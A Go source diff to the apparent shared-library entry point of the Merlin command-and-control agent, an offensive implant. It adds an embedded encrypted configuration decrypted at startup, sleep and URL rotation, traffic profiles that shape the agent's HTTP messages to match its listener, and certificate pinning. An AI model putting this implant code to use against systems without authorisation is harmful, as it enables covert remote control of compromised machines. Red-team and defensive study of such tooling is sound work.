@@ -23,24 +23,89 @@ import (
 	"C"
 	"os"
 	"strings"
+	"time"
 
 	// Merlin
 	"github.com/Ne0nd0g/merlin/pkg/agent"
+	"github.com/Ne0nd0g/merlin/pkg/config"
+	"github.com/Ne0nd0g/merlin/pkg/profiles"
 )
 
 var url = "https://127.0.0.1:443"
 var psk = "merlin"
 var proxy = ""
 var host = ""
+var protocol = "h2"
+var userAgent = ""
+var watermark = ""
+
+// sleep is the time the agent sleeps between check ins; zero uses the agent's default
+var sleep time.Duration
+
+// rotate is how long the agent uses one of its comma separated URLs before moving to the next one
+var rotate time.Duration
+
+// profile shapes the agent's HTTP messages to match its listener's profile; it is only set by the configuration
+var profile *profiles.Profile
+
+// crashReports sends the server a report when the agent recovers from a panic; it is only set by the configuration
+var crashReports bool
+
+// clientCert is the PEM client certificate and key the agent presents to listeners; it is only set by the configuration
+var clientCert string
+
+// pins are the certificate public key pins the agent accepts from its listeners; they are only set by the configuration
+var pins []string
+
+// configuration is the encrypted agent configuration embedded by the Make file; it replaces the defaults above
+var configuration = ""
+
+// init decrypts the embedded configuration, if there is one, into the default values
+func init() {
+	if configuration == "" {
+		return
+	}
+	c, err := config.Decrypt(configuration)
+	if err != nil {
+		return
+	}
+	url, psk, proxy, host, userAgent, watermark, profile = c.URL, c.PSK, c.Proxy, c.Host, c.UserAgent, c.Watermark, c.Profile
+	pins, crashReports, clientCert = c.Pins, c.Crash, c.ClientCert
+	if c.Protocol != "" {
+		protocol = c.Protocol
+	}
+	if d, err := time.ParseDuration(c.Sleep); err == nil {
+		sleep = d
+	}
+	if d, err := time.ParseDuration(c.Rotate); err == nil {
+		rotate = d
+	}
+}
 
 func main() {}
 
 // run is a private function called by exported functions to instantiate/execute the Agent
 func run(URL string) {
-	a, err := agent.New("h2", URL, host, psk, proxy, false, false)
+	a, err := agent.New(protocol, URL, host, psk, proxy, false, false)
 	if err != nil {
 		os.Exit(1)
 	}
+	if userAgent != "" {
+		a.UserAgent = userAgent
+	}
+	if sleep > 0 {
+		a.WaitTime = sleep
+	}
+	a.Rotate = rotate
+	a.Watermark = watermark
+	a.Profile = profile
+	a.CrashReports = crashReports
+	if err := a.SetPins(pins); err != nil {
+		os.Exit(1)
+	}
+	if err := a.SetClientCertificate(clientCert); err != nil {
+		os.Exit(1)
+	}
 	errRun := a.Run()
 	if errRun != nil {
 		os.Exit(1)